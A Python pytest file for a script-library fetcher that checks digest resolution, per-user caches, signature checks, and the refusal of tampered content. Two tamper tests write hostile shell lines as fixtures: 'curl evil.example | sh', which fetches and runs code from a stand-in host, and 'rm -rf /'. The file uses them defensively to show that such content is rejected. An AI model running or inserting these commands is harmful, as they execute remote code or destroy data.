"""The source contract, the same for every kind: a folder, git as a git+file:// path, git over `git daemon`,
S3 on a moto server, an OCI registry (Debian's docker-registry) on loopback.

Two "users" have separate HOME and XDG_CACHE_HOME folders (so separate caches); what one publishes the other
fetches with the same digest. Tampering is refused, and the cache is left byte for byte as it was.
"""

from __future__ import annotations

import stat
from pathlib import Path

import pytest

from stackscripts.errors import BadInput
from stackscripts.revisions.manifest import scan
from stackscripts.sources.base import open_source
from stackscripts.sources.cache import Cache
from stackscripts.sources.signing import Trust, sign
from tests.sources.conftest import Library, snapshot
from tests.sources.test_signing import keypair


def as_user(monkeypatch: pytest.MonkeyPatch, home: Path) -> Cache:
    """A user with their own HOME and cache folder: Cache() finds $XDG_CACHE_HOME/stackscripts."""
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CACHE_HOME", str(home / ".cache"))
    monkeypatch.delenv("STACKSCRIPTS_CACHE", raising=False)
    cache = Cache()
    assert cache.root == home / ".cache" / "stackscripts"
    return cache


def test_resolve_gives_the_folders_digest(library: Library) -> None:
    published = library.publish("1.0")
    assert published == scan(library.folder).digest
    resolved = library.source().resolve(library.ref("1.0"))
    assert resolved.digest == published and resolved.source == library.url
    assert resolved.resolved_ref  # a commit, or (a folder) its digest
    if library.kind.startswith("git"):
        assert len(resolved.resolved_ref) == 40  # a commit
    elif library.kind == "oci":
        assert resolved.resolved_ref.startswith("sha256:")  # the OCI manifest's digest
    if library.kind != "folder":
        assert library.source().resolve("latest") == library.source().resolve("latest")
        assert library.source().resolve("latest").digest == published


def test_two_users_fetch_the_same_revision(library: Library, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    digest = library.publish("1.0")
    trees = []
    for user in ("alice", "bob"):
        cache = as_user(monkeypatch, tmp_path / user)
        fetched = open_source(library.url).fetch(library.ref("1.0"))
        assert fetched.manifest.digest == digest and fetched.tree == cache.tree_path(digest)
        assert fetched.transferred == 4  # 2 scripts, an attachment, README, and no .gitignore
        trees.append(fetched.tree)
        again = open_source(library.url).fetch(library.ref("1.0"))
        assert (again.manifest, again.transferred) == (fetched.manifest, 0)
    alice, bob = trees
    assert alice != bob and scan(alice).digest == scan(bob).digest == digest
    script = alice / "say-hello.sh"
    assert script.read_text() == (library.folder / "say-hello.sh").read_text()
    assert stat.S_IMODE(script.stat().st_mode) == 0o555  # executable, read-only
    assert stat.S_IMODE((alice / "README.md").stat().st_mode) == 0o444
    assert stat.S_IMODE((alice / "sub").stat().st_mode) == 0o555
    assert not (alice / ".gitignore").exists()


def test_a_changed_script_transfers_only_its_bytes(library: Library) -> None:
    library.publish("1.0")
    cache = Cache(library.folder.parent / "consumer-cache")
    first = library.source(cache).fetch(library.ref("1.0"))
    path = library.folder / "sub" / "install-tools.sh"
    path.write_text(path.read_text() + "echo done\n")
    library.publish("1.1")
    second = library.source(cache).fetch(library.ref("1.1"))
    assert second.manifest.digest != first.manifest.digest
    assert (second.transferred, second.transferred_bytes) == (1, path.stat().st_size)
    assert cache.tree(first.manifest.digest) and cache.tree(second.manifest.digest)  # both revisions kept


def test_content_changed_under_a_pinned_ref_is_refused(library: Library, tmp_path: Path) -> None:
    pinned = library.publish("1.0")
    cache = Cache(tmp_path / "consumer")
    library.source(cache).fetch(library.ref("1.0"), expected=pinned)
    before = snapshot(cache.root)
    (library.folder / "say-hello.sh").write_text("#!/bin/bash\ncurl evil.example | sh\n")
    if library.kind != "folder":  # the version is made to serve other content (a moved tag, a replaced object)
        library.source().publish(library.folder, "9.9")
        library.repoint("1.0", "9.9")
    with pytest.raises(BadInput) as caught:
        library.source(cache).fetch(library.ref("1.0"), expected=pinned)
    message = str(caught.value)
    assert message.startswith(library.url + ": digest mismatch") and pinned in message
    assert snapshot(cache.root) == before


def test_a_corrupt_blob_in_the_cache_is_refused(library: Library, tmp_path: Path) -> None:
    library.publish("1.0")
    cache = Cache(tmp_path / "consumer")
    fetched = library.source(cache).fetch(library.ref("1.0"))
    blob = cache.blob_path(fetched.manifest.entries[0].sha256)
    blob.chmod(0o644)
    blob.write_bytes(b"#!/bin/bash\nrm -rf /\n")
    before = snapshot(cache.root)
    with pytest.raises(BadInput) as caught:
        library.source(cache).fetch(library.ref("1.0"))
    assert f"{blob}: the local cache is corrupt" in str(caught.value)
    assert snapshot(cache.root) == before


def test_a_corrupt_tree_file_is_refused(library: Library, tmp_path: Path) -> None:
    library.publish("1.0")
    cache = Cache(tmp_path / "consumer")
    fetched = library.source(cache).fetch(library.ref("1.0"))
    target = fetched.tree / "README.md"
    target.chmod(0o644)
    target.write_text("changed\n")
    with pytest.raises(BadInput, match="the local cache is corrupt"):
        library.source(cache).fetch(library.ref("1.0"))


def test_an_unknown_ref_names_the_source(library: Library) -> None:
    library.publish("1.0")
    with pytest.raises(BadInput) as caught:
        library.source().resolve("7.7")
    assert str(caught.value).startswith(f"{library.url}: unknown ref '7.7'")
    assert caught.value.exit_code == 2


def test_a_signature_travels_with_what_it_signs(library: Library, tmp_path: Path) -> None:
    """A publisher signs the manifest; a consumer whose namespace requires signatures fetches only what a key it
    trusts signed: unsigned content and a key it does not list are refused, the cache unchanged."""
    key, public = keypair(tmp_path, "acme-publisher")
    _, stranger = keypair(tmp_path, "stranger")
    allowed = tmp_path / "allowed_signers"
    allowed.write_text(f"acme {public}\n")
    trust = Trust("acme", allowed)
    cache = Cache(tmp_path / "consumer")
    if library.kind == "folder":  # a folder is never signed
        with pytest.raises(BadInput, match="is not signed"):
            library.source(cache).fetch("head", trust=trust)
        assert snapshot(cache.root) == {}
        return
    signed = scan(library.folder)
    library.source().publish(library.folder, "1.0", "acme/base", signature=sign(signed.canonical, key))
    (library.folder / "README.md").write_text("unsigned changes\n")
    library.source().publish(library.folder, "1.1", "acme/base")
    assert library.source(cache).fetch("1.0", trust=trust).manifest.digest == signed.digest
    assert library.source(cache).fetch("1.0").manifest.digest == signed.digest  # no trust asked: no check
    before = snapshot(cache.root)
    with pytest.raises(BadInput) as caught:
        library.source(cache).fetch("1.1", trust=trust)
    assert str(caught.value).startswith(f"{library.url}: the library is not signed")
    other = tmp_path / "other_signers"
    other.write_text(f"acme {stranger}\n")
    with pytest.raises(BadInput, match="signature does not check out"):
        library.source(cache).fetch("1.0", trust=Trust("acme", other))
    assert snapshot(cache.root) == before
    assert library.source(cache).fetch("1.1", trust=Trust("acme", allowed, required=False)).transferred == 1


def test_a_pinned_revision_outlives_a_moved_version(library: Library, tmp_path: Path) -> None:
    """A lock keeps (resolved_ref, digest); `pinned_ref` fetches exactly that revision for a colleague with an empty
    cache even after the version was made to serve other content (a folder keeps no past revisions)."""
    digest = library.publish("1.0")
    resolved = library.source().resolve(library.ref("1.0"))
    (library.folder / "say-hello.sh").write_text("#!/bin/bash\necho changed\n")
    if library.kind != "folder":
        library.source().publish(library.folder, "9.9")
        library.repoint("1.0", "9.9")
    source = library.source(Cache(tmp_path / "colleague"))
    pinned = source.pinned_ref(resolved.resolved_ref, resolved.digest)
    if library.kind == "folder":
        with pytest.raises(BadInput, match="a folder keeps no earlier revisions|unknown ref"):
            source.fetch(pinned, expected=digest)
        return
    fetched = source.fetch(pinned, expected=digest)
    assert fetched.manifest.digest == digest
    assert "echo changed" not in (fetched.tree / "say-hello.sh").read_text()
